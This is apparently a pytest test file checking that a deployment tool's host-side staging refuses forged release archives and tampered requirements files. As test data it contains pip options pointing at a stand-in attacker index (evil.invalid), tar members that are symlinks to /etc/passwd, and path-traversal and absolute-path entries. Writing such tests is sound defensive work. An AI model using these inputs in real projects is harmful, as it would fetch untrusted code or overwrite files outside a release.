"""The host side of staging (roadie/remote/stage_release.py), run here through stream_host.stage.

A host's release directories live in a tmp dir and its commands run locally: the program only works on
files (GNU tar, sha256, python3 -m venv, pip on the release's own wheels), so this is what a stream
host runs. Forged artifacts reach it without the controller's verify, as a swapped file or a tar parser
that disagrees with GNU tar would; it must refuse each with one line and leave nothing behind.
"""

from __future__ import annotations

import json
import os
import platform
import re
import shutil
import subprocess
import sys
import tarfile
from pathlib import Path, PurePosixPath
from types import SimpleNamespace

import pytest

from roadie import remote
from roadie.core.errors import RoadieError
from roadie.deploy import release, stream_host, wheelhouse
from roadie.remote import answer, release_checks, stage_release
from roadie.remote.release_checks import StageError
from tests.unit import forge

DEMO_WHEEL = "wheels/demo-1.0-py3-none-any.whl"


class LocalConn:
    """A stand-in for a host connection: runs the command here, stdin from `in_stream`, python3 = ours."""

    host = "local"

    def __init__(self, bin_dir: Path) -> None:
        self.env = {**os.environ, "PATH": f"{bin_dir}{os.pathsep}{os.environ['PATH']}"}

    def run(self, command: str, *, hide: bool, warn: bool, in_stream, timeout: float | None = None):
        data = in_stream.read() if in_stream else ""
        done = subprocess.run(["sh", "-c", command], input=data, capture_output=True, text=True, env=self.env,
                              timeout=timeout, check=False)
        return SimpleNamespace(exited=done.returncode, stdout=done.stdout, stderr=done.stderr)


class Host:
    """A stream host's /srv/stream in a tmp dir, and a file outside it that no release may touch."""

    def __init__(self, root: Path, shared_venvs: bool = True) -> None:
        self.root = root
        self.releases = root / "srv" / "releases"
        self.venvs = root / "srv" / "venvs"
        self.releases.mkdir(parents=True)
        if shared_venvs:
            self.venvs.mkdir()
        bin_dir = root / "bin"
        bin_dir.mkdir()
        (bin_dir / "python3").write_text(f'#!/bin/sh\nexec {sys.executable} "$@"\n')
        (bin_dir / "python3").chmod(0o755)
        self.conn = LocalConn(bin_dir)
        self.outside = root / "outside"
        self.outside.mkdir()
        (self.outside / "precious").write_text("untouched\n")

    def stage(self, artifact: Path, manifest: release.Manifest, deps: wheelhouse.Dependencies | None) -> bool:
        uploaded = self.releases / f".{manifest.release_id}.tar.gz"
        shutil.copyfile(artifact, uploaded)
        with pytest.MonkeyPatch.context() as patch:
            patch.setattr(stream_host, "RELEASES", PurePosixPath(self.releases))
            patch.setattr(stream_host, "VENVS", PurePosixPath(self.venvs))
            return stream_host.stage(self.conn, str(uploaded), manifest, deps)

    def state(self) -> list[tuple[str, str]]:
        """Every path under the host's tmp root with its type and content digest (links by target)."""
        found = []
        for top, dirs, files in os.walk(self.root):
            for name in sorted(dirs + files):
                path = Path(top, name)
                if path.is_symlink():
                    found.append((str(path), "-> " + os.readlink(path)))
                elif path.is_file():
                    found.append((str(path), forge.sha256(path.read_bytes())))
                else:
                    found.append((str(path), "dir"))
        return sorted(found)

    def refused(self, artifact: Path, manifest: release.Manifest, deps: wheelhouse.Dependencies | None,
                pattern: str) -> str:
        before = self.state()
        with pytest.raises(RoadieError) as caught:
            self.stage(artifact, manifest, deps)
        message = str(caught.value)
        assert "\n" not in message and "Traceback" not in message
        assert re.search(pattern, message), message
        assert message.startswith(f"local: staging {manifest.release_id} failed: refused: ")
        # Nothing of the release, its upload or a venv is left; nothing else changed.
        assert self.state() == before
        return message


@pytest.fixture(scope="module")
def built(tmp_path_factory) -> forge.Built:
    return forge.build(tmp_path_factory.mktemp("build"), "r1")


@pytest.fixture
def host(tmp_path) -> Host:
    return Host(tmp_path / "host")


def _manifest(data: dict) -> release.Manifest:
    return release.parse_manifest(json.dumps(data).encode(), "forged")


def _told_payload(good: release.Manifest, forged: dict) -> release.Manifest:
    """The verified member list, with the forged payload's sha256: what a host sees when a tar parser the
    controller trusted disagrees with GNU tar, or when the controller's verify was bypassed."""
    return _manifest({**good.as_dict(), "payload_sha256": forged["payload_sha256"],
                      "payload_size": forged["payload_size"]})


def _append(*entries: forge.Entry):
    return lambda existing: [*existing, *entries]


def _swap(name: str, new: forge.Entry):
    return lambda existing: [new if info.name == name else (info, data) for info, data in existing]


# ------------------------------------------------------------------ refusals


def test_an_artifact_changed_after_verify_is_refused(built, host, tmp_path):
    forged = tmp_path / "r1.tar.gz"
    forge.forge(built.artifact, forged, lambda entries: forge.replaced(
        entries, "requirements.txt", b"--find-links http://evil.invalid/\ndemo==1.0\n"))
    host.refused(forged, built.manifest, built.deps, "payload sha256 or size does not match the verified manifest")


def _requirements_with(extra: bytes):
    def edit(entries: list[forge.Entry]) -> list[forge.Entry]:
        data = next(d for info, d in entries if info.name == "requirements.txt")
        return forge.replaced(entries, "requirements.txt", extra + data)
    return edit


TAMPERED = {
    "requirements": (_requirements_with(b"--find-links http://evil.invalid/\n"),
                     "requirements.txt does not match its sha256 in the verified list"),
    "wheel": (lambda entries: forge.replaced(entries, DEMO_WHEEL, forge.wheel("demo", "1.0", "VALUE = 'evil'\n")[1]),
              "demo-1.0-py3-none-any.whl does not match its sha256"),
    "extra member": (_append(forge.entry("app/streamsvc/evil.py", b"import os\n")),
                     "member 'app/streamsvc/evil.py' is not in the verified list"),
    "extra directory": (_append(forge.entry("app/extra", kind=tarfile.DIRTYPE)),
                        "member 'app/extra' is not in the verified list"),
    "duplicate member": (_append(forge.entry("app/streamsvc/wsgi.py", b"import os  # second copy\n")),
                         "member 'app/streamsvc/wsgi.py' appears twice"),
    "duplicate directory": (_append(forge.entry("app", kind=tarfile.DIRTYPE)), "member 'app' appears twice"),
    "symlink member": (_append(forge.entry("app/streamsvc/evil.py", kind=tarfile.SYMTYPE, link="/etc/passwd")),
                       "is a symbolic link"),
    "symlink for a listed file": (_swap("app/streamsvc/wsgi.py", forge.entry(
        "app/streamsvc/wsgi.py", kind=tarfile.SYMTYPE, link="../../../outside/precious")), "is a symbolic link"),
    "symlink for a listed directory": (_swap("app/streamsvc", forge.entry(
        "app/streamsvc", kind=tarfile.SYMTYPE, link="../../outside")), "is a symbolic link"),
    "hard link member": (_append(forge.entry("app/streamsvc/evil.py", kind=tarfile.LNKTYPE,
                                             link="app/streamsvc/wsgi.py")), "is a hard link"),
    "hard link for a listed file": (_swap("app/streamsvc/wsgi.py", forge.entry(
        "app/streamsvc/wsgi.py", kind=tarfile.LNKTYPE, link="app/streamsvc/__init__.py")), "is a hard link"),
    "device": (_append(forge.entry("app/null", kind=tarfile.CHRTYPE)), "is a character device"),
    "fifo": (_append(forge.entry("app/fifo", kind=tarfile.FIFOTYPE)), "is a FIFO"),
    "missing member": (lambda entries: [e for e in entries if e[0].name != "app/streamsvc/wsgi.py"],
                       "no member app/streamsvc/wsgi.py, which the verified list holds"),
    "file for a directory": (_swap("app/streamsvc", forge.entry("app/streamsvc", b"not a directory\n")),
                             "member app/streamsvc is not a dir"),
    "climbing member": (_append(forge.entry("../../outside/precious", b"overwritten\n")),
                        "is not in the verified list"),
    "absolute member": (_append(forge.entry(f"{Path('/tmp').resolve()}/roadie-absolute-member", b"x\n")),
                        "is not in the verified list"),
}


@pytest.mark.parametrize("case", sorted(TAMPERED))
def test_a_payload_that_is_not_exactly_the_verified_members_is_refused(built, host, tmp_path, case):
    edit, pattern = TAMPERED[case]
    forged = forge.forge(built.artifact, tmp_path / "r1.tar.gz", edit)
    host.refused(tmp_path / "r1.tar.gz", _told_payload(built.manifest, forged), built.deps, pattern)
    assert (host.outside / "precious").read_text() == "untouched\n"
    assert not Path("/tmp/roadie-absolute-member").exists()


def test_a_long_name_member_gnu_tar_sees_is_refused(built, host, tmp_path):
    long_name = "app/" + "d" * 120 + "/evil.py"
    forged = forge.forge(built.artifact, tmp_path / "r1.tar.gz", _append(
        forge.entry(long_name.rsplit("/", 1)[0], kind=tarfile.DIRTYPE), forge.entry(long_name, b"x\n")),
        fmt=tarfile.GNU_FORMAT)
    host.refused(tmp_path / "r1.tar.gz", _told_payload(built.manifest, forged), built.deps,
                 "not in the verified list")


OPTION_LINES = [b"--find-links http://evil.invalid/\n", b"-e .\n", b"-r other.txt\n", b"-c constraints.txt\n",
                b"--index-url http://evil.invalid/simple\n", b"  --extra-index-url=http://evil.invalid\n",
                b"--trusted-host evil.invalid\n"]
NOT_PINS = [b"https://evil.invalid/demo-1.0-py3-none-any.whl\n", b"./wheels/demo-1.0-py3-none-any.whl\n",
            b"demo @ file:///tmp/demo.whl\n", b"other>=1.0\n", b"other==1.0; python_version > '3'\n",
            b"other[extra]==1.0\n", b"other==${VERSION}\n"]


@pytest.mark.parametrize("line", OPTION_LINES + NOT_PINS)
def test_requirements_with_an_option_line_or_no_pin_are_refused_before_pip(built, host, tmp_path, line):
    # The whole manifest rewritten to match: the requirements' own check is what stops it.
    forged = forge.forge(built.artifact, tmp_path / "r1.tar.gz", _requirements_with(line), relist=True)
    expected = "is an option line" if line in OPTION_LINES else "is not a name==version pin"
    host.refused(tmp_path / "r1.tar.gz", _manifest(forged), built.deps, f"requirements.txt line 1 {expected}")


def test_requirements_pinned_to_a_wheel_the_release_does_not_carry_are_refused(built, host, tmp_path):
    evil = forge.wheel("demo", "1.0", "VALUE = 'evil'\n")[1]
    forged = forge.forge(built.artifact, tmp_path / "r1.tar.gz",
                         lambda entries: forge.replaced(entries, DEMO_WHEEL, evil), relist=True)
    host.refused(tmp_path / "r1.tar.gz", _manifest(forged), built.deps,
                 "requirements.txt pins demo==1.0 to no wheel this release carries")


@pytest.mark.parametrize(("outer", "pattern"), [
    (lambda m, p: [("manifest.json", m), ("payload.tar.gz", p), ("evil.sh", b"#!/bin/sh\n")],
     "member 'evil.sh' is not in the verified list"),
    (lambda m, p: [("manifest.json", m), ("payload.tar.gz", p), ("payload.tar.gz", forge.pack([]))],
     "member 'payload.tar.gz' appears twice"),
    (lambda m, p: [("payload.tar.gz", p)], "no member manifest.json"),
])
def test_an_artifact_with_other_outer_members_is_refused(built, host, tmp_path, outer, pattern):
    with tarfile.open(built.artifact, "r:gz") as tar:
        manifest, payload = tar.extractfile("manifest.json").read(), tar.extractfile("payload.tar.gz").read()
    forged = forge.write(tmp_path / "r1.tar.gz", outer(manifest, payload))
    host.refused(forged, built.manifest, built.deps, pattern)


def test_an_outer_payload_that_is_a_link_is_refused(built, host, tmp_path):
    with tarfile.open(built.artifact, "r:gz") as tar:
        manifest = tar.extractfile("manifest.json").read()
    forged = tmp_path / "r1.tar.gz"
    forged.write_bytes(forge.pack([forge.entry("manifest.json", manifest),
                                   forge.entry("payload.tar.gz", kind=tarfile.SYMTYPE, link="/etc/passwd")]))
    host.refused(forged, built.manifest, built.deps, "member 'payload.tar.gz' is a symbolic link")


def test_a_shared_venv_built_from_other_requirements_is_not_used(built, host):
    env = host.venvs / f"{built.deps.key}-py{platform.python_version()}"
    env.mkdir()
    (env / "requirements.txt").write_text("demo==0.9 --hash=sha256:" + "0" * 64 + "\n")
    (env / ".roadie-complete").touch()
    host.refused(built.artifact, built.manifest, built.deps, f"shared venv {env.name} holds other requirements")


# ------------------------------------------------------------------ the request itself


def _request(**changes: object) -> str:
    manifest = {"release_id": "r1", "payload_sha256": "0" * 64, "payload_size": 1,
                "members": [{"path": "app", "type": "dir"}]}
    manifest.update(changes.pop("manifest", {}))
    request = {"artifact": "/srv/stream/releases/.r1.tar.gz", "releases": "/srv/stream/releases",
               "venvs": "/srv/stream/venvs", "manifest": json.dumps(manifest), "key": "ab" * 12,
               "app_requirement": "streamsvc==0.1.0", **changes}
    return json.dumps(request)


@pytest.mark.parametrize(("changes", "pattern"), [
    ({"manifest": {"members": [{"path": "app/x", "type": "symlink"}]}}, "only file and dir are installed"),
    ({"manifest": {"members": [{"path": "app", "type": "dir"}, {"path": "app", "type": "dir"}]}}, "listed twice"),
    ({"manifest": {"members": [{"path": "../etc", "type": "dir"}]}}, "is not relative names"),
    ({"manifest": {"members": [{"path": "/etc", "type": "dir"}]}}, "is not relative names"),
    ({"manifest": {"members": [{"path": "a\nb", "type": "dir"}]}}, "is not relative names"),
    ({"manifest": {"members": [{"path": "venv", "type": "dir"}]}}, "a name the host writes itself"),
    ({"manifest": {"members": [{"path": "app/x.py", "type": "file", "size": 1, "sha256": "0" * 64}]}},
     "its directory app is not listed"),
    ({"manifest": {"members": [{"path": "x.py", "type": "file", "size": 1, "sha256": "abc"}]}},
     "sha256 is not a sha256"),
    ({"manifest": {"release_id": "../r1"}}, "bad release id"),
    ({"artifact": "relative.tar.gz"}, "paths must be absolute"),
    ({"key": "../../tmp"}, "bad dependency key"),
])
def test_a_malformed_request_is_refused(changes, pattern):
    with pytest.raises(StageError, match=pattern):
        stage_release.read_spec(_request(**changes))


def test_the_program_reports_a_refusal_as_one_line_and_exit_status_3(tmp_path):
    request = _request(releases=str(tmp_path), artifact=str(tmp_path / ".r1.tar.gz"),
                       manifest={"members": [{"path": "x", "type": "symlink"}]})
    done = subprocess.run([sys.executable, "-c", remote.source("stage_release.py")], input=request + "\n",
                          capture_output=True, text=True, check=False)
    assert done.returncode == answer.FAILED
    assert done.stderr.count("\n") == 1 and done.stderr.startswith("refused: member x has type")


@pytest.mark.parametrize("text", ["demo==1.0 --hash=sha256:" + "a" * 64, "demo==1.0 --hash=sha256:" + "a" * 64
                                  + " --hash=sha256:" + "b" * 64 + "  # two builds", "# only a comment", ""])
def test_pins_with_hashes_comments_and_blank_lines_are_accepted(text):
    found = release_checks.parse_requirements(text, require_hashes=True)
    assert [r.pin for r in found] == (["demo==1.0"] if text.startswith("demo") else [])


@pytest.mark.parametrize(("text", "pattern"), [
    ("demo==1.0", "has no --hash=sha256 pin"),
    ("demo==1.0 --hash=md5:abc", "only --hash=sha256:<hex> may follow"),
    ("demo==1.0 --hash=sha256:" + "a" * 64 + " --no-deps", "only --hash=sha256:<hex> may follow"),
    ("demo==1.0 --hash=sha256:" + "a" * 64 + " \\", "only --hash=sha256:<hex> may follow"),
    ("demo==1.0#x --hash=sha256:" + "a" * 64, "is not a name==version pin"),
    ("demo==1.0 --hash=sha256:" + "a" * 64 + "\nDemo==1.0 --hash=sha256:" + "a" * 64, "names Demo again"),
])
def test_loose_requirement_lines_are_refused(text, pattern):
    with pytest.raises(StageError, match=pattern):
        release_checks.parse_requirements(text, require_hashes=True)


# ------------------------------------------------------------------ good releases (real venvs and pip)


@pytest.fixture(scope="module")
def staged(built, tmp_path_factory) -> Host:
    """`built` staged on a host with shared venvs: the venv is made once for the tests below."""
    host = Host(tmp_path_factory.mktemp("staged") / "host")
    # What an interrupted run leaves (no completion mark): replaced, not merged (checked below).
    (host.releases / "r1" / "app").mkdir(parents=True)
    (host.releases / "r1" / "app" / "leftover.py").write_text("import os\n")
    (host.releases / ".r1.staging-old").mkdir()
    assert host.stage(built.artifact, built.manifest, built.deps) is True
    return host


def _env_python(host: Host, release_id: str) -> Path:
    return host.releases / release_id / "venv" / "bin" / "python"


def _python(python: Path, code: str, cwd: Path | None = None) -> subprocess.CompletedProcess:
    return subprocess.run([str(python), "-c", code], capture_output=True, text=True, cwd=cwd, check=False,
                          env={k: v for k, v in os.environ.items() if k not in ("PYTHONPATH", "VIRTUAL_ENV")})


def test_a_good_release_stages_exactly_its_members_and_its_pinned_wheels(built, staged):
    target = staged.releases / "r1"
    assert (target / ".roadie-complete").is_file()
    assert (target / "manifest.json").read_bytes() == built.manifest.to_json()
    on_disk = {}
    for top, dirs, files in os.walk(target):
        for name in dirs + files:
            path = Path(top, name)
            on_disk[path.relative_to(target).as_posix()] = "link" if path.is_symlink() else (
                "dir" if path.is_dir() else "file")
    expected = {m.path: m.type for m in built.manifest.members}
    assert {k: v for k, v in on_disk.items() if "__pycache__" not in k} == {
        **expected, "manifest.json": "file", ".roadie-complete": "file", "venv": "link"}
    env = os.readlink(target / "venv")
    assert env.startswith(f"../../venvs/{built.deps.key}-py")
    found = _python(_env_python(staged, "r1"), "import demo; print(demo.VALUE)")
    assert found.stdout.strip() == "the wheel the build pinned", found.stderr
    # The app runs from its source (app/ first on sys.path), not from the shared venv.
    assert _python(_env_python(staged, "r1"), "import streamsvc").returncode != 0
    assert _python(_env_python(staged, "r1"), "import streamsvc", cwd=target / "app").returncode == 0
    assert sorted(os.listdir(staged.releases)) == ["r1"]  # the upload and the staging directory are gone


def test_a_staged_release_is_not_staged_again(built, staged):
    before = (staged.releases / "r1" / ".roadie-complete").stat().st_mtime_ns
    assert staged.stage(built.artifact, built.manifest, built.deps) is False
    assert (staged.releases / "r1" / ".roadie-complete").stat().st_mtime_ns == before
    assert sorted(os.listdir(staged.releases)) == ["r1"]


def test_the_next_release_with_the_same_dependencies_reuses_the_shared_venv(built, staged):
    repo_root = built.artifact.parent.parent

    def change(app: Path) -> None:
        (app / "streamsvc" / "wsgi.py").write_text("def create_app():\n    return 'r2'\n")

    second = forge.build(repo_root, "r2", change)
    assert second.deps.key == built.deps.key
    env = staged.releases / "r1" / "venv"
    inode = env.resolve().stat().st_ino
    assert staged.stage(second.artifact, second.manifest, second.deps) is True
    assert os.readlink(staged.releases / "r2" / "venv") == os.readlink(env)
    assert env.resolve().stat().st_ino == inode
    assert sorted(os.listdir(staged.venvs)) == [os.path.basename(os.readlink(env))]


def test_pip_installs_a_wheel_only_when_its_pinned_hash_matches_and_never_its_dependencies(staged, tmp_path):
    python = _env_python(staged, "r1")
    wheels = tmp_path / "wheels"
    wheels.mkdir()
    name, data = forge.wheel("other", "1.0", "VALUE = 1\n", requires=("third==1.0",))
    (wheels / name).write_bytes(data)
    third, third_data = forge.wheel("third", "1.0", "VALUE = 3\n")
    (wheels / third).write_bytes(third_data)
    requirements = tmp_path / "requirements.txt"
    requirements.write_text(f"other==1.0 --hash=sha256:{forge.sha256(b'some other bytes')}\n")
    with pytest.raises(StageError, match="pip refused the install: ERROR: THESE PACKAGES DO NOT MATCH THE HASHES"):
        stage_release.pip_install(python, requirements, wheels)
    assert _python(python, "import other").returncode != 0
    requirements.write_text(f"other==1.0 --hash=sha256:{forge.sha256(data)}\n")
    stage_release.pip_install(python, requirements, wheels)
    assert _python(python, "import other; print(other.VALUE)").stdout.strip() == "1"
    assert _python(python, "import third").returncode != 0  # --no-deps: only what the requirements pin


def test_without_shared_venvs_a_release_gets_a_venv_of_its_own(built, tmp_path):
    host = Host(tmp_path / "host", shared_venvs=False)
    assert host.stage(built.artifact, built.manifest, None) is True
    venv = host.releases / "r1" / "venv"
    assert venv.is_dir() and not venv.is_symlink()
    found = _python(venv / "bin" / "python", "import demo, streamsvc; print(demo.VALUE)")
    assert found.stdout.strip() == "the wheel the build pinned", found.stderr
    assert sorted(os.listdir(host.releases)) == ["r1"]
